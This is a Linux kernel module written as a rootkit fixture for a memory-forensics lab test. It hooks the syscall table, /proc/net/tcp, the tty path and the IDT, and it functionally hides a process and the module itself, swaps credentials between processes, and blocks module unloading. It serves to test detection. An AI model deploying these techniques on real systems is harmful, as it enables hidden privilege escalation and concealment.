// What rootkits do to a kernel, for a guest of the lab: tests/src/checks/hostile.rs requires that each of these is found.
//
// Every replaced function calls the original one, so the guest goes on and reports its truth. Nothing is undone: the guest ends when it
// was dumped. Written for 6.1 on x86-64.
#include <linux/cred.h>
#include <linux/ftrace.h>
#include <linux/fs.h>
#include <linux/keyboard.h>
#include <linux/kprobes.h>
#include <linux/kthread.h>
#include <linux/module.h>
#include <linux/netfilter.h>
#include <linux/netfilter_ipv4.h>
#include <linux/pid.h>
#include <linux/seq_file.h>
#include <linux/sched/signal.h>
#include <linux/tracepoint.h>
#include <linux/tty_ldisc.h>
#include <net/net_namespace.h>
#include <asm/desc_defs.h>
#include <asm/unistd.h>

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("hooks for a guest of the rekal lab");

static int hide, from, give;
module_param(hide, int, 0444);
MODULE_PARM_DESC(hide, "process to take off the list of processes");
module_param(give, int, 0444);
MODULE_PARM_DESC(give, "process to give the credentials of another one");
module_param(from, int, 0444);
MODULE_PARM_DESC(from, "the other one");

// kallsyms_lookup_name() is not exported; a kprobe tells where it is.
static unsigned long (*find)(const char *name);

static bool find_the_finder(void) {
    struct kprobe probe = {.symbol_name = "kallsyms_lookup_name"};
    if (register_kprobe(&probe)) return false;
    find = (void *)probe.addr;
    unregister_kprobe(&probe);
    return true;
}

static unsigned long cr0(void) {
    unsigned long value;
    asm volatile("mov %%cr0, %0" : "=r"(value));
    return value;
}

static void set_cr0(unsigned long value) {
    asm volatile("mov %0, %%cr0" ::"r"(value) : "memory");
}

// Writes where the kernel's page tables forbid it.
static void overwrite(void *place, const void *bytes, size_t length) {
    unsigned long flags, value;
    local_irq_save(flags);
    value = cr0();
    set_cr0(value & ~(1UL << 16));
    memcpy(place, bytes, length);
    set_cr0(value);
    local_irq_restore(flags);
}

static void replace(void *place, void *function) {
    overwrite(place, &function, sizeof function);
}

// --- A system call: getdents64, as those who hide files do.
static asmlinkage long (*original_getdents64)(const struct pt_regs *registers);
static asmlinkage long hostile_getdents64(const struct pt_regs *registers) {
    return original_getdents64(registers);
}

// --- A function overwritten in place, so that no module can be unloaded. Nobody in the guest calls it.
static asmlinkage long hostile_delete_module(const struct pt_regs *registers) {
    return -EPERM;
}

// --- /proc/net/tcp, as those who hide connections do.
static int (*original_tcp4_show)(struct seq_file *file, void *item);
static int hostile_tcp4_show(struct seq_file *file, void *item) {
    return original_tcp4_show(file, item);
}

// --- /dev/null, an open file of nearly every process.
static ssize_t (*original_write_null)(struct file *file, const char __user *text, size_t length, loff_t *at);
static ssize_t hostile_write_null(struct file *file, const char __user *text, size_t length, loff_t *at) {
    return original_write_null(file, text, length, at);
}

// --- Keys: the line discipline, and the keyboard itself.
static int (*original_receive)(struct tty_struct *tty, const unsigned char *keys, const char *flags, int count);
static int hostile_receive(struct tty_struct *tty, const unsigned char *keys, const char *flags, int count) {
    return original_receive(tty, keys, flags, count);
}
static int hostile_key(struct notifier_block *block, unsigned long code, void *key) {
    return NOTIFY_OK;
}
static struct notifier_block keyboard = {.notifier_call = hostile_key};

// --- Packets.
static unsigned int hostile_packet(void *data, struct sk_buff *packet, const struct nf_hook_state *state) {
    return NF_ACCEPT;
}
static struct nf_hook_ops packets = {
    .hook = hostile_packet, .pf = NFPROTO_IPV4, .hooknum = NF_INET_LOCAL_IN, .priority = NF_IP_PRI_FIRST};

// --- ftrace and a tracepoint.
static void hostile_trace(unsigned long ip, unsigned long parent, struct ftrace_ops *ops, struct ftrace_regs *registers) {
}
static struct ftrace_ops tracing = {.func = hostile_trace, .flags = FTRACE_OPS_FL_SAVE_REGS};

static void hostile_probe(void *data, struct task_struct *task, pid_t old, struct linux_binprm *program) {
}
static void listen(struct tracepoint *tracepoint, void *data) {
    if (!strcmp(tracepoint->name, "sched_process_exec")) tracepoint_probe_register(tracepoint, hostile_probe, NULL);
}

// --- An interrupt gate: vector 4, which 64-bit code cannot raise.
static void hostile_interrupt(void) {
}
static void replace_gate(void) {
    gate_desc *gate = (gate_desc *)find("idt_table") + 4, other = *gate;
    unsigned long to = (unsigned long)hostile_interrupt;
    other.offset_low = to;
    other.offset_middle = to >> 16;
    other.offset_high = to >> 32;
    overwrite(gate, &other, sizeof other);
}

// --- A thread of the kernel.
static int hostile_thread(void *data) {
    while (!kthread_should_stop()) {
        set_current_state(TASK_INTERRUPTIBLE);
        schedule();
    }
    return 0;
}

static int __init hostile_init(void) {
    unsigned char jump[12] = {0x48, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0xff, 0xe0}; // mov rax, imm64; jmp rax
    unsigned long to = (unsigned long)hostile_delete_module;
    struct task_struct *task, *other;
    void **calls;
    struct seq_operations *tcp;
    struct file_operations *null;
    struct tty_ldisc_ops *discipline;
    char *filter = "ksys_sync";

    if (!find_the_finder()) return -ENOENT;
    calls = (void **)find("sys_call_table");
    tcp = (void *)find("tcp4_seq_ops");
    null = (void *)find("null_fops");
    discipline = (void *)find("n_tty_ops");
    if (!calls || !tcp || !null || !discipline) return -ENOENT;

    original_getdents64 = calls[__NR_getdents64];
    replace(&calls[__NR_getdents64], hostile_getdents64);
    memcpy(jump + 2, &to, sizeof to);
    overwrite((void *)find("__x64_sys_delete_module"), jump, sizeof jump);
    original_tcp4_show = tcp->show;
    replace(&tcp->show, hostile_tcp4_show);
    original_write_null = null->write;
    replace(&null->write, hostile_write_null);
    original_receive = discipline->receive_buf2;
    replace(&discipline->receive_buf2, hostile_receive);
    replace_gate();

    // A list that leads back into itself. Only a key would make the kernel walk it, and the guest has no keyboard.
    register_keyboard_notifier(&keyboard);
    WRITE_ONCE(keyboard.next, &keyboard);
    if (nf_register_net_hook(&init_net, &packets)) pr_info("GT: no packets\n");
    if (ftrace_set_filter(&tracing, filter, strlen(filter), 1) || register_ftrace_function(&tracing))
        pr_info("GT: no tracing\n");
    for_each_kernel_tracepoint(listen, NULL);
    kthread_run(hostile_thread, NULL, "rekal_hostile");

    rcu_read_lock();
    task = pid_task(find_vpid(hide), PIDTYPE_PID);
    if (task) list_del_init(&task->tasks);
    task = pid_task(find_vpid(give), PIDTYPE_PID);
    other = pid_task(find_vpid(from), PIDTYPE_PID);
    if (task && other) {
        const struct cred *rights = get_cred(rcu_dereference(other->real_cred));
        rcu_assign_pointer(task->real_cred, rights);
        rcu_assign_pointer(task->cred, get_cred(rights));
    }
    rcu_read_unlock();

    // Gone from lsmod, but not from /sys/module.
    list_del(&THIS_MODULE->list);
    pr_info("GT: hostile\n");
    return 0;
}
module_init(hostile_init);
